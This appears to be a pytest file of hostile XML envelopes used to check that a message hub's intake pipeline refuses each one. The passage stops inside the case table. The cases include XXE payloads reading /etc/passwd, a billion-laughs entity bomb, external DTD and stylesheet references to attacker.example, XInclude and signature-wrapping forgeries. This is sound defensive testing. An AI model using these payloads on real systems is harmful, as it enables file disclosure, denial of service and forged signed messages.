"""A corpus of invalid and hostile documents, each refused by the hub's intake pipeline
(``open_envelope``: parse safely -> verify the signature -> schema -> business rules) with
its exact, stable error code and a message a person can act on.

Every case is one document with one fault. Documents that must get past the signature
check to reach the fault they carry are signed properly, with the registered key of the
organisation they name, so that only the intended check can refuse them. Every case runs
on both signature back ends ("fast" and "signxml"), which must agree on the code.

Layout: helpers, then one section per category of fault (XML intake, size, well-formedness,
schema, signature presence/scope/wrapping/tampering/algorithms, signer and certificate,
business rules), then the corpus table and the tests.
"""

from __future__ import annotations

import copy
import warnings
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta

import pytest
import signxml
from lxml import etree
from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureMethod

from hub.envelope import examples as ex
from hub.envelope import model as m
from hub.envelope.builder import build_envelope
from hub.envelope.rules import RuleLimits, add_months
from hub.errors import ErrorCode, Rejected
from hub.inbound.opening import open_envelope
from hub.safexml import ParseLimits
from hub.signing.keys import KeyPair
from hub.signing.signer import Signer
from hub.signing.truststore import TrustStore, trusted
from hub.signing.verifier import Verifier
from tests.kit import CREATED, NOW, Keyring, example, key_pair, keyring, unsigned

BACKENDS = ("fast", "signxml")

DS_NS = "http://www.w3.org/2000/09/xmldsig#"
DS = "{" + DS_NS + "}"
E = "{" + m.ENVELOPE_NS + "}"

SHA1_DIGEST = "http://www.w3.org/2000/09/xmldsig#sha1"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
ECDSA_SHA1 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"
EXC_C14N_WITH_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"

C = ErrorCode


# ---------------------------------------------------------------------------------------
# Helpers: what a hostile document is, and how to make one
# ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """A document as received, and the hub's configuration when it arrives."""

    data: bytes
    trust: TrustStore | None = None
    """The hub's trust store; ``None``: the example organisations' registered keys."""
    now: datetime = NOW
    options: Mapping[str, object] = field(default_factory=dict)
    """Extra ``open_envelope`` arguments: parse_limits, rule_limits, policy."""


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], Hostile | bytes]
    code: ErrorCode
    at: str | None = None
    """The end of ``violations[0].path`` (e.g. ``Citizen/SSIN``), when the refusal names an element."""

    def hostile(self) -> Hostile:
        built = self.build()
        return built if isinstance(built, Hostile) else Hostile(built)


def keys() -> Keyring:
    return keyring("ec")


def signed(model: m.Envelope | str = "citizen-letter") -> bytes:
    """The envelope signed properly by the organisation in its Sender/OrganizationId."""
    return keys().sign(example(model) if isinstance(model, str) else model)


def signed_tree(model: m.Envelope | str = "citizen-letter") -> etree._Element:
    return etree.fromstring(signed(model))


def serialise(root: etree._Element) -> bytes:
    """The tree as bytes, without re-indenting (added whitespace would change signed text)."""
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def swap(data: bytes, old: bytes | str, new: bytes | str) -> bytes:
    """Replace the one occurrence of ``old`` (the case is void if it is not there)."""
    old_b = old.encode() if isinstance(old, str) else old
    new_b = new.encode() if isinstance(new, str) else new
    assert data.count(old_b) == 1, f"{old_b!r} occurs {data.count(old_b)} times"
    return data.replace(old_b, new_b)


def other_base64_char(text: str, index: int) -> str:
    """``text`` with the base64 character at ``index`` changed to another one (still valid base64)."""
    assert text[index] not in "=\n"
    return text[:index] + ("B" if text[index] == "A" else "A") + text[index + 1 :]


def body_of(data: bytes) -> bytes:
    """The document without its XML declaration."""
    return data.split(b"?>", 1)[1].lstrip()


def sign_with(root: etree._Element, pair: KeyPair, *, certificate=None, reference_uri=None) -> etree._Element:
    """Sign with signxml directly (exclusive c14n, ECDSA-SHA256) to control what the hub's Signer fixes."""
    signer = signxml.XMLSigner(
        signature_algorithm=SignatureMethod.ECDSA_SHA256,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return signer.sign(root, key=pair.key, cert=[certificate or pair.certificate], reference_uri=reference_uri)


def with_header(env: m.Envelope, **changes: object) -> m.Envelope:
    return replace(env, header=replace(env.header, **changes))


def with_recipient(env: m.Envelope, **changes: object) -> m.Envelope:
    return with_header(env, recipient=replace(env.header.recipient, **changes))


def with_content(env: m.Envelope, **changes: object) -> m.Envelope:
    return replace(env, content=replace(env.content, **changes))


def with_payment(**changes: object) -> m.Envelope:
    env = example("payment")
    return with_content(env, payment=replace(env.content.payment, **changes))


def with_document(env: m.Envelope, document: m.Attachment) -> m.Envelope:
    return with_content(env, document=document)


# ---------------------------------------------------------------------------------------
# XML intake: DTDs, entities, processing instructions, encodings -> XML_FORBIDDEN
# ---------------------------------------------------------------------------------------


def xxe_file_passwd() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE PublishMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<PublishMessage xmlns="urn:ebox-hub:envelope:1"><Header>&xxe;</Header></PublishMessage>'
    )


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE lolz [' + "".join(entities) + "]>\n<lolz>&lol9;</lolz>").encode()


def external_dtd() -> bytes:
    return (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE PublishMessage SYSTEM "http://attacker.example/envelope.dtd">\n'
        b'<PublishMessage xmlns="urn:ebox-hub:envelope:1"/>'
    )


def parameter_entities() -> bytes:
    return (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
        b"<r/>"
    )


def doctype_alone_before_signed_envelope() -> bytes:
    data = signed()
    return swap(data, b"?>\n", b"?>\n<!DOCTYPE PublishMessage>\n")


def utf16_declared_with_doctype() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>'
    data = text.encode("utf-16")
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
    return data


def utf16_bom_only_with_doctype() -> bytes:
    """No XML declaration: only the byte-order mark says UTF-16."""
    data = '<!DOCTYPE r [<!ENTITY x "expanded">]>\n<r>&x;</r>'.encode("utf-16")
    assert b"<!DOCTYPE" not in data
    return data


def utf16_bom_only_signed_envelope() -> bytes:
    """A validly signed envelope, re-encoded as UTF-16 (BOM, no declaration): not UTF-8."""
    return body_of(signed()).decode("utf-8").encode("utf-16")


def pi_inside_root() -> bytes:
    data = signed()
    return swap(data, b"<Header>", b"<?evil run-me?><Header>")


def xml_stylesheet_before_root() -> bytes:
    data = signed()
    return swap(data, b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n')


def pi_after_root() -> bytes:
    return signed() + b'\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>'


def iso_8859_1_declared() -> bytes:
    text = body_of(signed()).decode("utf-8")
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + text.encode("iso-8859-1")


# ---------------------------------------------------------------------------------------
# Size and depth -> TOO_LARGE
# ---------------------------------------------------------------------------------------


def over_configured_size() -> Hostile:
    data = signed()
    return Hostile(data, options={"parse_limits": ParseLimits(max_bytes=len(data) // 2)})


def over_default_15_mib() -> bytes:
    return b"<PublishMessage>" + b"x" * (15 * 1024 * 1024) + b"</PublishMessage>"


def nested_25_deep() -> bytes:
    return b'<PublishMessage xmlns="urn:ebox-hub:envelope:1">' + b"<a>" * 24 + b"</a>" * 24 + b"</PublishMessage>"


def nested_300_deep() -> bytes:
    return b"<a>" * 300 + b"</a>" * 300


def attachment_over_rule_limit() -> Hostile:
    return Hostile(signed("citizen-pdf"), options={"rule_limits": RuleLimits(max_attachment_bytes=100)})


def attachments_over_total_limit() -> Hostile:
    limits = RuleLimits(max_attachment_bytes=10_000, max_total_attachment_bytes=200)
    return Hostile(signed("citizen-pdf"), options={"rule_limits": limits})


# ---------------------------------------------------------------------------------------
# Not well-formed -> XML_MALFORMED
# ---------------------------------------------------------------------------------------


def truncated() -> bytes:
    data = signed()
    return data[: len(data) // 2]


def mismatched_tags() -> bytes:
    return b'<PublishMessage xmlns="urn:ebox-hub:envelope:1"><Header><Content></Header></Content></PublishMessage>'


def empty_bytes() -> bytes:
    return b""


def binary_garbage() -> bytes:
    return bytes(range(1, 256)) * 4


def nul_byte_in_text() -> bytes:
    return swap(signed(), b"Centre de contact", b"Centre\x00de contact")


def invalid_utf8() -> bytes:
    return swap(signed(), b"Centre de contact", b"Centre de c\xc3\x28ntact")


def two_root_elements() -> bytes:
    return signed() + body_of(signed("integrator"))


def undefined_entity_reference() -> bytes:
    return swap(signed(), b"Centre de contact", b"Centre&nbsp;de contact")


# ---------------------------------------------------------------------------------------
# Schema -> SCHEMA_INVALID (signed properly so that only the schema refuses)
# ---------------------------------------------------------------------------------------


def _signed_retagged_root(tag: str) -> bytes:
    root = build_envelope(example())
    root.tag = tag
    return keys().sign_root(root, ex.FINANCE)


def wrong_namespace_root_signed() -> bytes:
    return _signed_retagged_root("{urn:ebox-hub:envelope:2}PublishMessage")


def acknowledgement_root_signed() -> bytes:
    return _signed_retagged_root(f"{{{m.ACK_NS}}}Acknowledgement")


def whole_document_in_wrong_namespace_signed() -> bytes:
    """Every element in a namespace the hub does not know (a sender on a "version 2")."""
    data = unsigned().replace(m.ENVELOPE_NS.encode(), b"urn:ebox-hub:envelope:2")
    return keys().sign_root(etree.fromstring(data), ex.FINANCE)


def genuine_acknowledgement_signed() -> bytes:
    """A real, signed acknowledgement posted where an envelope is due."""
    a, t = "{" + m.ACK_NS + "}", "{" + m.TYPES_NS + "}"
    root = etree.Element(a + "Acknowledgement", nsmap={None: m.ACK_NS, "t": m.TYPES_NS})
    for name, value in (
        ("AcknowledgementId", "ACK-1"),
        ("Event", "delivered"),
        ("OccurredAt", "2026-11-02T09:30:00Z"),
        ("Issuer", "hub"),
    ):
        etree.SubElement(root, a + name).text = value
    sender = etree.SubElement(root, a + "Sender")
    etree.SubElement(sender, t + "OrganizationId").text = ex.FINANCE
    etree.SubElement(sender, t + "ApplicationId").text = "tax-on-web"
    return keys().sign_root(root, ex.FINANCE)


def unknown_root_name_signed() -> bytes:
    return _signed_retagged_root(E + "Envelope")


def unknown_element_in_header() -> bytes:
    root = build_envelope(example())
    etree.SubElement(root.find(E + "Header"), E + "Urgency").text = "immediately"
    return keys().sign_root(root)


def media_type_not_allowed() -> bytes:
    exe = ex.attachment("brochure.pdf", "application/x-msdownload", b"MZ\x90\x00" + b"\x00" * 60)
    return signed(with_document(example("citizen-pdf"), exe))


def xinclude_not_processed() -> bytes:
    root = build_envelope(example())
    include = etree.SubElement(root.find(E + "Content"), "{http://www.w3.org/2001/XInclude}include")
    include.set("href", "file:///etc/passwd")
    include.set("parse", "text")
    return keys().sign_root(root)


# ---------------------------------------------------------------------------------------
# Signature presence and scope -> SIGNATURE_MISSING / SIGNATURE_SCOPE
# ---------------------------------------------------------------------------------------


def unsigned_envelope() -> bytes:
    return unsigned("citizen-letter")


def signature_in_foreign_namespace() -> bytes:
    return signed().replace(DS_NS.encode(), b"http://attacker.example/not-xmldsig#")


def signature_over_header_only() -> bytes:
    root = build_envelope(example())
    root.find(E + "Header").set("Id", "hdr")
    return serialise(sign_with(root, keys().pairs[ex.FINANCE], reference_uri="#hdr"))


def second_signature_appended() -> bytes:
    root = signed_tree()
    root.append(copy.deepcopy(root.find(DS + "Signature")))
    return serialise(root)


def signature_moved_into_content() -> bytes:
    root = signed_tree()
    root.find(E + "Content").append(root.find(DS + "Signature"))
    return serialise(root)


def object_inside_signature() -> bytes:
    root = signed_tree()
    etree.SubElement(root.find(DS + "Signature"), DS + "Object").text = "payload"
    return serialise(root)


def duplicate_id_attributes() -> bytes:
    root = signed_tree("registered")
    root.find(E + "Content").set("Id", root.get("Id"))
    return serialise(root)


def two_references() -> bytes:
    root = signed_tree()
    signed_info = root.find(f"{DS}Signature/{DS}SignedInfo")
    signed_info.append(copy.deepcopy(signed_info.find(DS + "Reference")))
    return serialise(root)


def reference_to_external_uri() -> bytes:
    root = signed_tree()
    root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference").set("URI", "http://attacker.example/doc.xml")
    return serialise(root)


# ---------------------------------------------------------------------------------------
# Signature wrapping: the signed original kept somewhere, a forged message on top
# ---------------------------------------------------------------------------------------


def _forged(kind: str = "citizen-letter") -> etree._Element:
    """A forged envelope: same sender, another recipient, another subject, no reply asked."""
    env = with_content(with_recipient(example(kind), id=ex.CITIZEN_B), reply_options=None)
    env = with_content(
        env, subjects=tuple(replace(s, value="Remboursement: cliquez ici") for s in env.content.subjects)
    )
    return build_envelope(env)


def wrapped_in_object() -> bytes:
    original = signed_tree()
    signature = original.find(DS + "Signature")
    original.remove(signature)
    forged = _forged()
    etree.SubElement(signature, DS + "Object").append(original)
    forged.append(signature)
    return serialise(forged)


def wrapped_in_forged_content() -> bytes:
    forged = _forged()
    forged.find(E + "Content").append(signed_tree())
    return serialise(forged)


def wrapped_beside_forged_header() -> bytes:
    """The original signature lifted to the forged root, the original kept as a sibling."""
    original = signed_tree()
    signature = original.find(DS + "Signature")
    original.remove(signature)
    forged = _forged()
    forged.append(original)
    forged.append(signature)
    return serialise(forged)


def wrapped_by_id_reference() -> bytes:
    """Id-based wrapping: the signature points to #Id, the forged root has none."""
    original = signed_tree("registered")
    signature = original.find(DS + "Signature")
    original.remove(signature)
    forged = _forged("registered")
    del forged.attrib["Id"]
    forged.append(signature)
    forged.append(original)
    return serialise(forged)


def forged_root_reusing_signed_id() -> bytes:
    """The forged root takes the signed root's Id and signature; the original is dropped."""
    signature = signed_tree("registered").find(DS + "Signature")
    forged = _forged("registered")
    forged.append(signature)
    return serialise(forged)


# ---------------------------------------------------------------------------------------
# Tampering after signing -> SIGNATURE_INVALID
# ---------------------------------------------------------------------------------------


def tampered_body() -> bytes:
    return swap(signed(), b"Votre d\xc3\xa9claration est disponible", b"Votre d\xc3\xa9claration est annul\xc3\xa9e")


def tampered_attachment_content() -> bytes:
    root = signed_tree("citizen-pdf")
    content = root.find(f"{E}Content/{E}Document/{E}Content")
    content.text = other_base64_char(content.text, 40)
    return serialise(root)


def tampered_recipient_ssin() -> bytes:
    return swap(signed(), ex.CITIZEN_A, ex.CITIZEN_B)


def tampered_signature_value() -> bytes:
    root = signed_tree()
    value = root.find(f"{DS}Signature/{DS}SignatureValue")
    value.text = other_base64_char(value.text, 10)
    return serialise(root)


def tampered_digest_value() -> bytes:
    root = signed_tree()
    value = root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference/{DS}DigestValue")
    value.text = other_base64_char(value.text, 10)
    return serialise(root)


def registered_certificate_with_rogue_key() -> bytes:
    """The sender's registered certificate embedded, but the signature made with another key."""
    root = build_envelope(example())
    rogue = key_pair("hostile-rogue-signer")
    return serialise(sign_with(root, rogue, certificate=keys().pairs[ex.FINANCE].certificate))


# ---------------------------------------------------------------------------------------
# Algorithms -> SIGNATURE_ALGORITHM (refused before any cryptography)
# ---------------------------------------------------------------------------------------


def _rewritten(kind: str = "citizen-letter", *, data: bytes | None = None, **algorithms: str) -> bytes:
    """A signed document whose SignedInfo algorithm URIs are rewritten (signxml refuses SHA-1)."""
    root = etree.fromstring(data or signed(kind))
    signed_info = root.find(f"{DS}Signature/{DS}SignedInfo")
    paths = {
        "method": f"{DS}SignatureMethod",
        "digest": f"{DS}Reference/{DS}DigestMethod",
        "c14n": f"{DS}CanonicalizationMethod",
        "transform": f"{DS}Reference/{DS}Transforms/{DS}Transform[2]",
    }
    for what, uri in algorithms.items():
        signed_info.find(paths[what]).set("Algorithm", uri)
    return serialise(root)


def ecdsa_sha1() -> bytes:
    return _rewritten(method=ECDSA_SHA1, digest=SHA1_DIGEST)


def rsa_sha1() -> Hostile:
    rsa = keyring("rsa")
    data = rsa.sign(example())
    return Hostile(_rewritten(data=data, method=RSA_SHA1, digest=SHA1_DIGEST), trust=rsa.trust)


def sha1_digest_only() -> bytes:
    return _rewritten(digest=SHA1_DIGEST)


def hmac_signature_method() -> bytes:
    return _rewritten(method=HMAC_SHA256)


def xslt_transform_added() -> bytes:
    root = signed_tree()
    transforms = root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference/{DS}Transforms")
    xslt = etree.SubElement(transforms, DS + "Transform", Algorithm=XSLT_TRANSFORM)
    etree.SubElement(xslt, "{http://www.w3.org/1999/XSL/Transform}stylesheet", version="1.0")
    return serialise(root)


def xpath_transform_instead_of_c14n() -> bytes:
    return _rewritten(transform=XPATH_TRANSFORM)


def c14n_with_comments() -> bytes:
    return _rewritten(c14n=EXC_C14N_WITH_COMMENTS)


def reference_c14n_with_comments() -> bytes:
    return _rewritten(transform=EXC_C14N_WITH_COMMENTS)


def no_transforms() -> bytes:
    root = signed_tree()
    reference = root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference")
    reference.remove(reference.find(DS + "Transforms"))
    return serialise(root)


# ---------------------------------------------------------------------------------------
# Signer and certificate -> UNKNOWN_SIGNER / CERT_EXPIRED / CERT_NOT_YET_VALID
# ---------------------------------------------------------------------------------------


def unregistered_key() -> bytes:
    return serialise(Signer(key_pair("hostile-unregistered")).sign(build_envelope(example())))


def other_registered_organisation() -> bytes:
    """Signed by SOCIAL's registered key while Sender/OrganizationId says FINANCE."""
    return keys().sign(example(), ex.SOCIAL)


def _signed_by_only(pair: KeyPair, **window: datetime) -> Hostile:
    """Signed by ``pair``, which the hub's trust store registers for FINANCE (with ``window``)."""
    data = serialise(Signer(pair).sign(build_envelope(example())))
    return Hostile(data, trust=TrustStore([trusted(ex.FINANCE, pair.certificate, **window)]))


def certificate_expired() -> Hostile:
    return _signed_by_only(key_pair("hostile-expired", start=CREATED - timedelta(days=400), days=1))


def certificate_not_yet_valid() -> Hostile:
    return _signed_by_only(key_pair("hostile-future", start=NOW + timedelta(days=30)))


def trust_window_ended() -> Hostile:
    return _signed_by_only(key_pair("hostile-rotated-out"), valid_until=NOW - timedelta(days=1))


def trust_window_not_started() -> Hostile:
    return _signed_by_only(key_pair("hostile-rotated-in"), valid_from=NOW + timedelta(days=1))


# ---------------------------------------------------------------------------------------
# Business rules (schema-valid, signed properly; one rule broken each)
# ---------------------------------------------------------------------------------------


def recipient_ssin_invalid() -> bytes:
    return signed(with_recipient(example(), id="85073003329"))


def for_the_attention_of_ssin_invalid() -> bytes:
    env = example("enterprise")
    fao = replace(env.header.recipient.for_the_attention_of, ssin="68041217945")
    return signed(with_recipient(env, for_the_attention_of=fao))


def enterprise_recipient_cbe_invalid() -> bytes:
    return signed(with_recipient(example("enterprise"), id="0406798007"))


def on_behalf_of_cbe_invalid() -> bytes:
    env = example("integrator")
    return signed(with_header(env, sender=replace(env.header.sender, on_behalf_of="0207373420")))


def iban_invalid() -> bytes:
    return signed(with_payment(iban="BE71096123456768"))


def bic_invalid() -> bytes:
    return signed(with_payment(bic="GKCCZZBB"))


def structured_reference_invalid() -> bytes:
    return signed(with_payment(structured_reference="+++010/8068/17184+++"))


def expiry_one_week() -> bytes:
    return signed(with_header(example(), expires_at=CREATED + timedelta(weeks=1)))


def expiry_four_years() -> bytes:
    return signed(with_header(example(), expires_at=add_months(CREATED, 48)))


def retain_indefinitely_not_allowed() -> bytes:
    return signed(with_header(example(), expires_at=None, retain_indefinitely=True))


def expiry_already_passed() -> bytes:
    created = add_months(CREATED, -24)
    return signed(with_header(example(), created=created, expires_at=add_months(created, 12)))


def created_in_future() -> bytes:
    return signed(with_header(example(), created=NOW + timedelta(days=1)))


def effective_date_after_expiry() -> bytes:
    env = example("integrator")
    return signed(with_header(env, effective_date=env.header.expires_at + timedelta(days=1)))


def reply_deadline_after_expiry() -> bytes:
    env = example("reply-free-text")
    options = replace(env.content.reply_options, deadline=env.header.expires_at + timedelta(days=1))
    return signed(with_content(env, reply_options=options))


def digest_of_other_bytes() -> bytes:
    env = example("citizen-pdf")
    forged = replace(env.content.document, digest=ex.attachment("x.pdf", "application/pdf", b"other").digest)
    return signed(with_document(env, forged))


def size_mismatch() -> bytes:
    env = example("citizen-pdf")
    return signed(with_document(env, replace(env.content.document, size=env.content.document.size + 1)))


def pdf_that_is_a_gif() -> bytes:
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
    return signed(with_document(example("citizen-pdf"), ex.attachment("statement.pdf", "application/pdf", gif)))


def exe_named_pdf() -> bytes:
    pdf = ex.minimal_pdf("setup")
    return signed(with_document(example("citizen-pdf"), ex.attachment("setup.exe", "application/pdf", pdf)))


def two_french_subjects() -> bytes:
    env = example()
    subjects = (*env.content.subjects, m.Text(lang=m.Language.FR, value="Un autre sujet"))
    return signed(with_content(env, subjects=subjects))


def dutch_body_without_dutch_subject() -> bytes:
    env = example()
    return signed(with_content(env, subjects=env.content.subjects[:1], titles=env.content.titles[:1]))


def no_body_and_no_document() -> bytes:
    return signed(with_content(example(), bodies=()))


def two_choices_same_id() -> bytes:
    env = example("registered")
    options = env.content.reply_options
    choices = (options.choices[0], replace(options.choices[1], id=options.choices[0].id))
    return signed(with_content(env, reply_options=replace(options, choices=choices)))


# ---------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------

CORPUS: tuple[Case, ...] = (
    # XML intake
    Case("xxe-file-etc-passwd", xxe_file_passwd, C.XML_FORBIDDEN),
    Case("billion-laughs", billion_laughs, C.XML_FORBIDDEN),
    Case("external-dtd-http", external_dtd, C.XML_FORBIDDEN),
    Case("parameter-entities", parameter_entities, C.XML_FORBIDDEN),
    Case("doctype-alone-on-signed-envelope", doctype_alone_before_signed_envelope, C.XML_FORBIDDEN),
    Case("utf16-declared-with-doctype", utf16_declared_with_doctype, C.XML_FORBIDDEN),
    Case("utf16-bom-only-with-doctype", utf16_bom_only_with_doctype, C.XML_FORBIDDEN),
    Case("utf16-bom-only-signed-envelope", utf16_bom_only_signed_envelope, C.XML_FORBIDDEN),
    Case("pi-inside-root", pi_inside_root, C.XML_FORBIDDEN),
    Case("xml-stylesheet-before-root", xml_stylesheet_before_root, C.XML_FORBIDDEN),
    Case("xml-stylesheet-after-root", pi_after_root, C.XML_FORBIDDEN),
    Case("iso-8859-1-declared", iso_8859_1_declared, C.XML_FORBIDDEN),
    # Size and depth
    Case("over-configured-size", over_configured_size, C.TOO_LARGE),
    Case("over-default-15-mib", over_default_15_mib, C.TOO_LARGE),
    Case("nested-25-deep", nested_25_deep, C.TOO_LARGE),
    Case("nested-300-deep", nested_300_deep, C.TOO_LARGE),
    Case("attachment-over-rule-limit", attachment_over_rule_limit, C.TOO_LARGE, "Document/Content"),
    Case("attachments-over-total-limit", attachments_over_total_limit, C.TOO_LARGE, "Content"),
    # Well-formedness
    Case("truncated", truncated, C.XML_MALFORMED),
    Case("mismatched-tags", mismatched_tags, C.XML_MALFORMED),
    Case("empty-bytes", empty_bytes, C.XML_MALFORMED),
    Case("binary-garbage", binary_garbage, C.XML_MALFORMED),
    Case("nul-byte-in-text", nul_byte_in_text, C.XML_MALFORMED),
    Case("invalid-utf8", invalid_utf8, C.XML_MALFORMED),
    Case("two-root-elements", two_root_elements, C.XML_MALFORMED),
    Case("undefined-entity-reference", undefined_entity_reference, C.XML_MALFORMED),
    # Schema
    Case("wrong-namespace-root-signed", wrong_namespace_root_signed, C.SCHEMA_INVALID, "/PublishMessage"),
    Case("acknowledgement-root-signed", acknowledgement_root_signed, C.SCHEMA_INVALID, "/Acknowledgement"),
    Case(
        "whole-document-in-wrong-namespace",
        whole_document_in_wrong_namespace_signed,
        C.SCHEMA_INVALID,
        "/PublishMessage",
    ),
    Case("genuine-acknowledgement-signed", genuine_acknowledgement_signed, C.SCHEMA_INVALID, "/Acknowledgement"),
    Case("unknown-root-name-signed", unknown_root_name_signed, C.SCHEMA_INVALID, "/Envelope"),
    Case("unknown-element-in-header", unknown_element_in_header, C.SCHEMA_INVALID, "Urgency"),
    Case("media-type-not-allowed", media_type_not_allowed, C.SCHEMA_INVALID, "Document/MediaType"),
    Case("xinclude-not-processed", xinclude_not_processed, C.SCHEMA_INVALID, "/PublishMessage/Content/include"),
    # Signature presence and scope
    Case("unsigned", unsigned_envelope, C.SIGNATURE_MISSING),
    Case("signature-in-foreign-namespace", signature_in_foreign_namespace, C.SIGNATURE_MISSING),
    Case("signature-over-header-only", signature_over_header_only, C.SIGNATURE_SCOPE),
    Case("second-signature-appended", second_signature_appended, C.SIGNATURE_SCOPE),
    Case("signature-inside-content", signature_moved_into_content, C.SIGNATURE_SCOPE),
    Case("object-inside-signature", object_inside_signature, C.SIGNATURE_SCOPE),
    Case("duplicate-id-attributes", duplicate_id_attributes, C.SIGNATURE_SCOPE),
    Case("two-references", two_references, C.SIGNATURE_SCOPE),
    Case("reference-to-external-uri", reference_to_external_uri, C.SIGNATURE_SCOPE),
    # Wrapping
    Case("wrap-original-in-ds-object", wrapped_in_object, C.SIGNATURE_SCOPE),
    Case("wrap-original-in-forged-content", wrapped_in_forged_content, C.SIGNATURE_SCOPE),
    Case("wrap-original-beside-forged-header", wrapped_beside_forged_header, C.SIGNATURE_INVALID),
    Case("wrap-by-id-reference", wrapped_by_id_reference, C.SIGNATURE_SCOPE),
    Case("forged-root-reusing-signed-id", forged_root_reusing_signed_id, C.SIGNATURE_INVALID),
    # Tampering
    Case("tampered-body", tampered_body, C.SIGNATURE_INVALID),
    Case("tampered-attachment-content", tampered_attachment_content, C.SIGNATURE_INVALID),
    Case("tampered-recipient-ssin", tampered_recipient_ssin, C.SIGNATURE_INVALID),
    Case("tampered-signature-value", tampered_signature_value, C.SIGNATURE_INVALID),
    Case("tampered-digest-value", tampered_digest_value, C.SIGNATURE_INVALID),
    Case("registered-cert-rogue-key", registered_certificate_with_rogue_key, C.SIGNATURE_INVALID),
    # Algorithms
    Case("ecdsa-sha1", ecdsa_sha1, C.SIGNATURE_ALGORITHM),
    Case("rsa-sha1", rsa_sha1, C.SIGNATURE_ALGORITHM),
    Case("sha1-digest-only", sha1_digest_only, C.SIGNATURE_ALGORITHM),
    Case("hmac-signature-method", hmac_signature_method, C.SIGNATURE_ALGORITHM),
    Case("xslt-transform-added", xslt_transform_added, C.SIGNATURE_ALGORITHM),
    Case("xpath-transform-instead-of-c14n", xpath_transform_instead_of_c14n, C.SIGNATURE_ALGORITHM),
    Case("c14n-with-comments", c14n_with_comments, C.SIGNATURE_ALGORITHM),
    Case("reference-c14n-with-comments", reference_c14n_with_comments, C.SIGNATURE_ALGORITHM),
    Case("no-transforms", no_transforms, C.SIGNATURE_ALGORITHM),
    # Signer and certificate
    Case("unregistered-key", unregistered_key, C.UNKNOWN_SIGNER),
    Case("other-organisations-key", other_registered_organisation, C.UNKNOWN_SIGNER),
    Case("certificate-expired", certificate_expired, C.CERT_EXPIRED),
    Case("certificate-not-yet-valid", certificate_not_yet_valid, C.CERT_NOT_YET_VALID),
    Case("trust-window-ended", trust_window_ended, C.CERT_EXPIRED),
    Case("trust-window-not-started", trust_window_not_started, C.CERT_NOT_YET_VALID),
    # Business rules
    Case("recipient-ssin-invalid", recipient_ssin_invalid, C.SSIN_INVALID, "Citizen/SSIN"),
    Case(
        "for-the-attention-of-ssin-invalid", for_the_attention_of_ssin_invalid, C.SSIN_INVALID, "ForTheAttentionOf/SSIN"
    ),
    Case("enterprise-recipient-cbe-invalid", enterprise_recipient_cbe_invalid, C.CBE_INVALID, "Enterprise/CBE"),
    Case("on-behalf-of-cbe-invalid", on_behalf_of_cbe_invalid, C.CBE_INVALID, "Sender/OnBehalfOf"),
    Case("iban-invalid", iban_invalid, C.IBAN_INVALID, "Payment/IBAN"),
    Case("bic-invalid", bic_invalid, C.BIC_INVALID, "Payment/BIC"),
    Case(
        "structured-reference-invalid", structured_reference_invalid, C.REFERENCE_INVALID, "Payment/StructuredReference"
    ),
    Case("expiry-one-week", expiry_one_week, C.EXPIRY_OUT_OF_RANGE, "ExpiresAt"),
    Case("expiry-four-years", expiry_four_years, C.EXPIRY_OUT_OF_RANGE, "ExpiresAt"),
    Case(
        "retain-indefinitely-not-allowed", retain_indefinitely_not_allowed, C.EXPIRY_OUT_OF_RANGE, "RetainIndefinitely"
    ),
    Case("expiry-already-passed", expiry_already_passed, C.EXPIRY_OUT_OF_RANGE, "ExpiresAt"),
    Case("created-in-future", created_in_future, C.DATE_INCONSISTENT, "Header/Created"),
    Case("effective-date-after-expiry", effective_date_after_expiry, C.DATE_INCONSISTENT, "EffectiveDate"),
    Case("reply-deadline-after-expiry", reply_deadline_after_expiry, C.DATE_INCONSISTENT, "ReplyOptions/Deadline"),
    Case("digest-of-other-bytes", digest_of_other_bytes, C.DIGEST_MISMATCH, "Document/Digest"),
    Case("size-mismatch", size_mismatch, C.SIZE_MISMATCH, "Document/Size"),
    Case("pdf-that-is-a-gif", pdf_that_is_a_gif, C.MEDIA_TYPE_MISMATCH, "Document/MediaType"),
    Case("exe-named-pdf", exe_named_pdf, C.MEDIA_TYPE_MISMATCH, "Document/FileName"),
